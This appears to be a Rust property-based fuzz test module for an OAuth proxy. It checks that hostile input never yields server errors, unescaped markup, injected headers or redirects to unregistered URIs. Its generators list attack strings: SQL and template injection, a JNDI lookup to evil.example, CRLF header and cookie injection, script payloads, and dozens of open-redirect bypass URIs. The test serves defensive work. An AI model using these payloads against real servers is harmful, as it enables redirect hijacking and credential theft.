//! Anything at all as input: never a 5xx but the designed 503, never a panic, never a redirect to
//! a URI that was not proven, nothing unescaped, nothing reached without a token.

mod bodies;
mod cookies;
mod headers;
mod queries;
mod text;

use bytes::Bytes;
use http::{Method, Request, header};
use proptest::{
    prelude::*,
    test_runner::{Config, TestCaseError, TestRunner},
};
use serde_json::{Value, json};
use url::Url;

use testkit::{
    Client, Proxy, Reply, Wire,
    client::{Auth, CALLBACK, native_metadata},
    html,
    proxy::{BASE, INSIDE},
};

/// What an injection would make of a page and of a header.
const MARKUP: &str = "<x-inject>\"'><script>x-inject()</script>";
const HEADER: &str = "\r\nX-Inject: yes\r\nSet-Cookie: x-inject=1";

/// Every code that stands in an `error` field.
const CODES: [&str; 16] = [
    "invalid_request",
    "invalid_client",
    "invalid_grant",
    "invalid_scope",
    "invalid_target",
    "invalid_token",
    "invalid_redirect_uri",
    "invalid_client_metadata",
    "insufficient_scope",
    "unauthorized_client",
    "unsupported_grant_type",
    "unsupported_response_type",
    "access_denied",
    "server_error",
    "temporarily_unavailable",
    "not_found",
];

/// The elements of our pages.
const ELEMENTS: [&str; 40] = [
    "!doctype", "html", "head", "meta", "title", "link", "style", "body", "header", "main",
    "footer", "section", "h1", "h2", "h3", "p", "b", "small", "dl", "dt", "dd", "ul", "li", "form",
    "fieldset", "legend", "label", "input", "button", "bdi", "q", "code", "strong", "div", "span",
    "details", "summary", "svg", "path", "time",
];

/// A proxy, its clients, and the runtime that they live on.
struct Target {
    runtime: tokio::runtime::Runtime,
    proxy: Proxy,
    clients: Vec<(Client, Vec<String>)>,
}

impl Target {
    fn new() -> Self {
        let runtime = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .unwrap();
        let (proxy, clients) = runtime.block_on(async {
            let proxy = Proxy::with(|builder| {
                builder.allowed_redirect_uri_patterns([
                    "https://app.example/callback/*",
                    "myapp://callback/*",
                ])
            })
            .await;
            let mut clients = Vec::new();
            for uris in [
                vec![CALLBACK],
                vec!["https://app.example/callback/1?kept=a%20b"],
                vec![
                    "http://localhost/cb",
                    "http://[::1]:7/cb",
                    "myapp://callback/x",
                ],
            ] {
                let mut metadata = native_metadata(uris[0]);
                metadata["redirect_uris"] = json!(uris);
                metadata["client_name"] = json!(MARKUP);
                let uris = uris.into_iter().map(str::to_owned).collect();
                clients.push((proxy.register(&metadata).await, uris));
            }
            (proxy, clients)
        });
        Self {
            runtime,
            proxy,
            clients,
        }
    }

    /// A confidential client, too.
    fn confidential(&self) -> Client {
        let mut metadata = native_metadata(CALLBACK);
        metadata["token_endpoint_auth_method"] = "client_secret_basic".into();
        let client = self.runtime.block_on(self.proxy.register(&metadata));
        assert_eq!(client.auth, Auth::Basic);
        client
    }

    /// One request, if it is one that HTTP can carry at all.
    fn send(
        &self,
        method: Method,
        target: &str,
        headers: &[(&str, &[u8])],
        body: impl Into<Bytes>,
    ) -> Option<Reply> {
        // A server sees origin form; a fragment is never sent.
        if !target.starts_with('/') || target.contains('#') {
            return None;
        }
        let mut request = Request::builder().method(method).uri(target);
        for (name, value) in headers {
            request = request.header(*name, *value);
        }
        let request = request.body(body.into()).ok()?;
        let wire: &Wire = &self.proxy.wire;
        Some(self.runtime.block_on(wire.send(request)))
    }

    /// What holds for every answer.
    fn judge(&self, reply: &Reply) -> Result<(), TestCaseError> {
        let status = reply.status.as_u16();
        prop_assert!(
            status < 500 || (status == 503 && reply.header("retry-after").is_some()),
            "{reply:?}"
        );
        prop_assert!(reply.headers.get(INSIDE).is_none(), "inside: {reply:?}");
        for (name, value) in &reply.headers {
            prop_assert!(!name.as_str().contains("inject"), "{reply:?}");
            let plain = value.as_bytes().iter().all(|b| (0x20..0x7f).contains(b));
            prop_assert!(plain, "{name} of {reply:?}");
            let is_cookie = *name == header::SET_COOKIE;
            let injected = value.to_str().unwrap_or("x-inject").contains("x-inject=");
            prop_assert!(!(is_cookie && injected), "{reply:?}");
        }
        let kind = reply.header("content-type").unwrap_or_default();
        if kind.starts_with("text/html") {
            self.judge_page(reply)?;
        } else if kind == "application/json" && status >= 400 {
            judge_error(reply)?;
        } else if !reply.body.is_empty() {
            prop_assert_eq!(kind, "application/json", "{:?}", reply);
        }
        for event in self.proxy.events() {
            for words in [event.login, event.grant, event.detail] {
                let shown = words
                    .iter()
                    .flat_map(|words| words.chars())
                    .all(text::is_shown);
                prop_assert!(shown, "{words:?} in an event");
            }
        }
        self.proxy.forget_events();
        if let Some(to) = reply.header("location") {
            prop_assert!(reply.status.is_redirection(), "{reply:?}");
            self.judge_redirect(to)?;
        }
        Ok(())
    }

    fn judge_page(&self, reply: &Reply) -> Result<(), TestCaseError> {
        let page = reply.text();
        prop_assert!(page.chars().all(text::is_shown), "{page}");
        for element in html::elements(&page) {
            let name = element.trim_start_matches('/');
            prop_assert!(ELEMENTS.contains(&name), "<{name}> in {page}");
        }
        // The icon, which comes along.
        let links = page.matches("<link ").count();
        let icon = page
            .matches(r#"<link rel="icon" href="data:image/"#)
            .count();
        prop_assert!(links == 1 && icon == 1, "links in {page}");
        let policy = reply.header("content-security-policy").unwrap_or_default();
        prop_assert!(policy.contains("default-src 'none'"), "{reply:?}");
        Ok(())
    }

    /// Only to the consent page, to the provider, or to a client's own URI.
    fn judge_redirect(&self, to: &str) -> Result<(), TestCaseError> {
        let consent = format!("{BASE}/oauth/consent?login=");
        let provider = self.proxy.provider.url("/authorize?");
        if to.starts_with(&consent) || to.starts_with(&provider) {
            return Ok(());
        }
        let uris = self.clients.iter().flat_map(|(_, uris)| uris);
        prop_assert!(
            uris.into_iter().any(|own| leads_to(to, own)),
            "to a stranger: {to}"
        );
        Ok(())
    }
}

fn judge_error(reply: &Reply) -> Result<(), TestCaseError> {
    let answer: Value = serde_json::from_slice(&reply.body)
        .map_err(|e| TestCaseError::fail(format!("{e}: {reply:?}")))?;
    let code = answer["error"].as_str().unwrap_or_default();
    let is_bare = reply.status == 401 && code.is_empty();
    prop_assert!(is_bare || CODES.contains(&code), "{reply:?}");
    if let Some(words) = answer["error_description"].as_str() {
        // RFC 6749 section 5.2.
        let allowed = |c: char| matches!(c, ' '..='!' | '#'..='[' | ']'..='~');
        prop_assert!(words.chars().all(allowed), "{reply:?}");
    }
    Ok(())
}

/// Whether a browser that follows `to` ends up at `own`, whose port may vary on loopback. Written
/// without the library's own idea of it.
fn leads_to(to: &str, own: &str) -> bool {
    let (Ok(to), Ok(own)) = (Url::parse(to), Url::parse(own)) else {
        return false;
    };
    let loopback = own.scheme() == "http";
    let place = |url: &Url| {
        let port = if loopback { None } else { url.port() };
        let host = url.host_str().map(str::to_owned);
        (url.scheme().to_owned(), host, port, url.path().to_owned())
    };
    let kept = own.query().unwrap_or_default();
    place(&to) == place(&own)
        && to.username().is_empty()
        && to.password().is_none()
        && to.fragment().is_none()
        && to.query().is_some_and(|query| query.starts_with(kept))
}

/// Runs a property this many times; a failure prints the smallest input.
fn for_all<S: Strategy>(cases: u32, strategy: S, property: impl Fn(S::Value) -> Outcome) {
    let config = Config {
        cases,
        failure_persistence: None,
        max_shrink_iters: 400,
        ..Config::default()
    };
    let mut runner = TestRunner::new(config);
    if let Err(failure) = runner.run(&strategy, property) {
        panic!("{failure}");
    }
}

type Outcome = Result<(), TestCaseError>;

/// Text that somebody hostile, or nobody in particular, would send.
fn hostile() -> impl Strategy<Value = String> {
    prop_oneof![
        3 => prop::sample::select(vec![
            "",
            " ",
            "\0",
            "\r\n",
            "%",
            "%00",
            "%zz",
            "../..",
            "null",
            "true",
            "-1",
            "99999999999999999999",
            "\u{202e}\u{feff}\u{0}",
            "a\u{2028}b\u{61c}c\u{200b}d\u{e0041}e\u{e000}f\u{378}g\u{3164}",
            "ünïcödé 🦀",
            "' OR 1=1 --",
            "{{7*7}}",
            "${jndi:ldap://evil.example}",
            MARKUP,
            HEADER,
            "https://evil.example/",
            "//evil.example",
        ])
        .prop_map(str::to_owned),
        1 => Just("A".repeat(3_000)),
        1 => Just("A".repeat(9_000)),
        2 => any::<String>(),
        2 => "[ -~]{0,80}",
        1 => "[\\x00-\\x1f\\x7f<>&\"']{0,20}",
    ]
}

/// Redirect URIs that look like the client's and are not.
fn false_friend(own: &str) -> impl Strategy<Value = String> + use<> {
    let url = Url::parse(own).unwrap();
    let host = url.host_str().unwrap_or("callback").to_owned();
    let rest = own.split_once("://").unwrap().1.to_owned();
    let path = url.path().to_owned();
    let mut uris: Vec<String> = [
        "http://localhost:80@evil.example/",
        "http://localhost:80@evil.example/cb",
        "http://127.0.0.1:9000@evil.example/callback",
        "http://127.0.0.1:9000\\@evil.example/callback",
        "http://evil.example\\@127.0.0.1:9000/callback",
        "http://127.0.0.1:9000.evil.example/callback",
        "http://127.0.0.1.evil.example:9000/callback",
        "http://localhost.evil.example/cb",
        "http://2130706433:9000/callback",
        "http://0x7f.1:9000/callback",
        "http://127.1:9000/callback",
        "http://[::ffff:127.0.0.1]:9000/callback",
        "http://127。0。0。1:9000/callback",
        "https://app.example%2eevil.example/callback/1",
        "https://app.example/callback/../evil",
        "https://app.example/callback/%2e%2e/evil",
        "https://app.example/callback/2",
        "https://App.Example/callback/1?kept=a%20b",
        "https://app.example:8443/callback/1?kept=a%20b",
        "https:app.example/callback/1?kept=a%20b",
        "https:///app.example/callback/1?kept=a%20b",
        "https://app.example\t/callback/1?kept=a%20b",
        "//evil",
        "///evil.example",
        "\\\\evil.example",
        "/\\evil.example",
        "javascript://127.0.0.1:9000/callback",
        "data:text/html,<script>x-inject()</script>",
        "myapp://callback/y",
        "myapp:callback/x",
        "MYAPP://callback/x",
    ]
    .map(str::to_owned)
    .into();
    uris.extend([
        format!("{own}#"),
        format!("{own}#fragment"),
        format!("{own}/"),
        format!("{own}&x=1"),
        format!("{own}?x=1"),
        format!("{own}%0d%0aX-Inject:%20yes"),
        format!("{own}{HEADER}"),
        format!("{own}\n"),
        format!(" {own}"),
        format!("{own} "),
        format!("{own}\u{202e}"),
        format!("{own}/../evil"),
        own.replace("://", ":\\\\"),
        own.replace("://", ":/"),
        own.replace("://", "://user@"),
        own.replace("://", "://:@"),
        own.replace("://", "://evil.example@"),
        own.replace("://", "://evil.example/"),
        own.replace("http", "https"),
        own.to_uppercase(),
        own.replace(&host, &format!("{host}.")),
        own.replace(&host, &format!("evil.{host}")),
        own.replace(&host, &host.replace('o', "о")),
        format!("https://evil.example/?{own}"),
        format!("https://evil.example/{rest}"),
        format!("https://evil.example{path}"),
    ]);
    let mutated = (0..own.len(), any::<char>(), Just(own.to_owned()));
    prop_oneof![
        4 => prop::sample::select(uris),
        1 => mutated.prop_map(|(at, with, own)| {
            let mut chars: Vec<char> = own.chars().collect();
            chars[at] = with;
            chars.into_iter().collect()
        }),
        1 => hostile(),
    ]
}

/// Percent-encodes pairs as forms do.
fn form(pairs: &[(String, String)]) -> String {
    serde_urlencoded::to_string(pairs).unwrap()
}
